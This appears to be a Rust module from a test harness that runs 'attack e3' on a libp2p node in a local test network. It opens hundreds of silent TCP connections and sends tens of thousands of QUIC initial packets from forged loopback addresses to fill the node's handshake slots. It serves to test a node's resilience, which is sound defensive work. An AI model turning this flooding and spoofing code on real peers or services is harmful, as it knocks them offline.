//! Attack e3: handshakes that are started and never continued, from many addresses and from forged ones.

use std::io;
use std::net::{Ipv4Addr, SocketAddr};
use std::time::Duration;

use futures::FutureExt as _;
use libp2p::core::Endpoint;
use libp2p::core::transport::{DialOpts, PortUse};
use libp2p::identity::Keypair;
use libp2p::{Multiaddr, Transport as _, quic};
use tokio::io::AsyncReadExt as _;
use tokio::net::UdpSocket;
use tokio::time::{interval, sleep};

use super::{Attack, Price, nothing};
use crate::test_network::VICTIM_IP;
use crate::{StageOptions, Tasks, proxy};

/// Number of addresses that dial over TCP and send nothing: more than a node's places for handshakes.
const SILENT: u8 = 200;
/// Time after which an address that was disconnected dials again.
const AGAIN: Duration = Duration::from_millis(20);
/// Number of connections per address, enough for ten minutes.
const DIALS_MAX: u32 = 30_000;
/// Forged packets sent per second, 1 Mbit/s.
const FORGED_PER_S: u32 = 100;
/// Maximum number of forged packets, enough for ten minutes.
const FORGED_MAX: u32 = 60_000;
/// Longest packet that is forged, bytes.
const PACKET_BYTES_MAX: usize = 2048;
/// The victim's QUIC port.
const QUIC_PORT: u16 = 61_003;
/// Duration of the attack before messages are counted.
const FILLING: Duration = Duration::from_secs(4);

/// Attack e3: abandoned and forged handshakes.
pub const ATTACK: Attack = Attack {
    name: "e3-forged-handshakes",
    about: "200 addresses open silent TCP connections, 100 first packets of QUIC a second come from forged addresses",
    price: Price::Addresses(SILENT as u32),
    options: || StageOptions {
        victims_flags: &["--quic-support=true", "--quic-port=61003"],
        ..StageOptions::default()
    },
    start: |stage| {
        async {
            let tcp = stage.victim.socket();
            let mut tasks = Tasks::default();
            for last in 1..=SILENT {
                tasks.spawn(silent(Ipv4Addr::new(127, 0, 29, last), tcp));
            }
            tasks.spawn(forge(SocketAddr::from((VICTIM_IP, QUIC_PORT))));
            sleep(FILLING).await;
            Ok(tasks)
        }
        .boxed()
    },
    then: nothing,
};

/// Opens a connection, sends nothing until it is closed, and starts over.
async fn silent(from: Ipv4Addr, victim: SocketAddr) {
    for _ in 0..DIALS_MAX {
        if let Ok(mut socket) = proxy::dial(from, victim).await {
            let mut bytes = [0; 64];
            while socket.read(&mut bytes).await.is_ok_and(|read| read > 0) {}
        }
        sleep(AGAIN).await;
    }
}

/// Sends the first packets of handshakes, each from a different address at which nobody reads the answers.
async fn forge(victim: SocketAddr) {
    let config = quic::Config::new(&Keypair::generate_ed25519());
    let mut transport = quic::tokio::Transport::new(config);
    let mut ticks = interval(Duration::from_secs(1) / FORGED_PER_S);
    for number in 0..FORGED_MAX {
        ticks.tick().await;
        if let Ok(packet) = first_packet(&mut transport).await {
            let [_, _, high, low] = number.to_be_bytes();
            let from = Ipv4Addr::new(127, 1, high, low);
            if let Ok(socket) = UdpSocket::bind((from, 0)).await {
                // A full buffer has the same effect as a lost packet.
                let _ = socket.send_to(&packet, victim).await;
            }
        }
    }
}

/// Returns the first packet of a peer that dials over QUIC.
async fn first_packet(transport: &mut quic::tokio::Transport) -> io::Result<Vec<u8>> {
    let sink = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).await?;
    let port = sink.local_addr()?.port();
    let address = format!("/ip4/127.0.0.1/udp/{port}/quic-v1");
    let address: Multiaddr = address.parse().map_err(io::Error::other)?;
    let options = DialOpts {
        role: Endpoint::Dialer,
        port_use: PortUse::New,
    };
    let dial = transport.dial(address, options).map_err(io::Error::other)?;
    let mut packet = vec![0; PACKET_BYTES_MAX];
    let length = tokio::select! {
        received = sink.recv(&mut packet) => received?,
        _ = dial => return Err(io::ErrorKind::NotConnected.into()),
    };
    packet.truncate(length);
    Ok(packet)
}
